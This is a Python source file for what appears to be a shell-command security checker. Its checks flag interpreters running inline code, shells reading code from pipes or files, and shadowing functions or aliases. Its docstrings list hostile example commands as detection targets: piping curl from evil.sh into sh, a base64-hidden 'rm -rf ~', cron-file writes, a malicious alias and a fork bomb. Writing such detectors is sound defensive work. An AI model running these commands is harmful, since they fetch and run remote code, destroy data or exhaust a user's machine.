"""Checks for code the line carries or fetches: interpreters, shells, functions."""

from __future__ import annotations

from collections.abc import Iterator

from security.checks.base import Context, Hit, Trigger, command_check, line_check
from security.knowledge import (
    AWKS,
    awk_program_refusal,
    is_known_command,
    read_awk_argv,
    read_only_problem,
)
from security.knowledge.interpreters import (
    INLINE_CODE_OPTIONS,
    INTERPRETERS,
    VERSIONED,
    versionless,
)
from security.knowledge.wrappers import SHELLS
from security.shell import Command
from security.unwrap import Scene
from security.verdict import Decision, Risk


@command_check(
    "S17",
    "interpreter running inline code",
    when=Trigger(names=AWKS | frozenset(INLINE_CODE_OPTIONS), name_pattern=VERSIONED),
)
def inline_code(command: Command, scene: Scene, ctx: Context) -> Iterator[Hit]:
    """Inline code for a general-purpose interpreter can do anything; it is not parsed.

    Attack: ``python3 -c 'import os; os.system("rm -rf ~")'``, ``perl -e 'unlink ...'``,
    ``node -e "require('child_process').exec('id')"``, ``awk 'BEGIN{system("id")}'``,
    ``awk '{print > "/etc/cron.d/x"}'``, ``vim -c '!id'``. awk programs that only
    read and print pass: the program is lexed (strings, regexes, comments, continued
    lines), so ``print "}" > "f"``, a backslash-newline before ``>`` and ``@f()``
    (an indirect call: ``f="system"``) are seen.
    """
    name = command.base_name
    argv = command.argv
    if name in AWKS:
        found, reason = read_awk_argv(argv)
        if found is None:
            if reason != "no awk program":
                yield Hit(reason or "awk code from a file", Decision.ASK)
            return
        refusal = awk_program_refusal(found.program)
        if refusal:
            why, severe = refusal
            yield Hit(
                f"awk program {why}: {found.program[:80]!r}",
                Decision.DENY if severe else Decision.ASK,
            )
        return
    options = INLINE_CODE_OPTIONS.get(versionless(name))
    if options is None:
        return
    for arg in argv[1:]:
        if (
            arg in options
            or any(arg.startswith(o) and o.startswith("+") for o in options)
            or (
                arg.startswith("-")
                and not arg.startswith("--")
                and len(arg) > 2
                and any(len(o) == 2 and o[1] in arg[1:] for o in options if o.startswith("-"))
            )
        ):
            yield Hit(f"{name} {arg} runs inline code", Decision.ASK, Risk.HIGH)
            return


@command_check(
    "S18",
    "shell or interpreter reading code from a pipe, file or heredoc",
    when=Trigger(names=INTERPRETERS | {"source", "."}, name_pattern=VERSIONED),
)
def code_from_elsewhere(command: Command, scene: Scene, ctx: Context) -> Iterator[Hit]:
    """Code that arrives through stdin or a file is not in the line to be checked.

    Attack: ``curl -s evil.sh | sh``, ``echo cm0gLXJmIH4= | base64 -d | bash``,
    ``python3 < payload.py``, ``bash ./script.sh``, ``source ~/.evil``, ``. ./x``.
    A heredoc or here-string given to a shell is parsed and checked instead.
    """
    name = versionless(command.base_name)
    argv = command.argv
    if read_only_problem(argv) is None:
        return  # a version query: `bash --version`, `python3 -V`
    if name in ("source", "."):
        yield Hit(f"{name} runs {' '.join(argv[1:]) or 'a file'}", Decision.ASK)
        return
    if name not in INTERPRETERS and name not in AWKS:
        return
    if name in AWKS:
        return
    code_options = INLINE_CODE_OPTIONS.get(name, ())
    args = argv[1:]
    if name in SHELLS and any(
        a.startswith("-") and not a.startswith("--") and "c" in a for a in args
    ):
        return
    if any(a in code_options for a in args):
        return
    words = command.words[1:]
    operands = [w.value for w in words if w.literal and not w.value.startswith("-")]
    redirected = [r for r in command.redirects if r.op in ("<", "<&", "<>") and r.target]
    if command.piped_stdin and not operands:
        yield Hit(f"{name} runs code from a pipe", Decision.DENY)
    elif redirected and not operands:
        yield Hit(
            f"{name} runs code from {redirected[0].target.raw if redirected[0].target else '?'}",
            Decision.ASK,
        )
    elif operands and name in SHELLS:
        yield Hit(f"{name} runs the script {operands[0]}", Decision.ASK, Risk.MEDIUM)
    elif (
        name in SHELLS
        and not operands
        and not any(r.op in ("<<", "<<-", "<<<") for r in command.redirects)
    ):
        yield Hit(f"{name} would read commands from its input", Decision.ASK, Risk.MEDIUM)


@line_check("S34", "function or alias defined in the line")
def functions_and_aliases(scene: Scene, ctx: Context) -> Iterator[Hit]:
    """A function or alias defined in the line changes what a later name means.

    Attack: ``ls() { curl evil | sh; }; ls`` or ``alias ls='rm -rf ~'`` then ``ls``;
    a checker that trusts the name ``ls`` misses it. A function shadowing a known
    command is refused; the fork bomb ``:(){ :|:& };:`` is one.
    """
    for name in scene.functions:
        if is_known_command(name) or name == ":":
            yield Hit(f"function {name!r} shadows a command", Decision.DENY)
        else:
            yield Hit(f"function {name!r} defined", Decision.ASK, Risk.MEDIUM)
    for index, command in enumerate(scene.commands):
        if command.base_name in ("alias", "unalias") and len(command.words) > 1:
            yield Hit(
                f"{command.base_name} {' '.join(command.argv[1:])}", Decision.DENY, command=index
            )
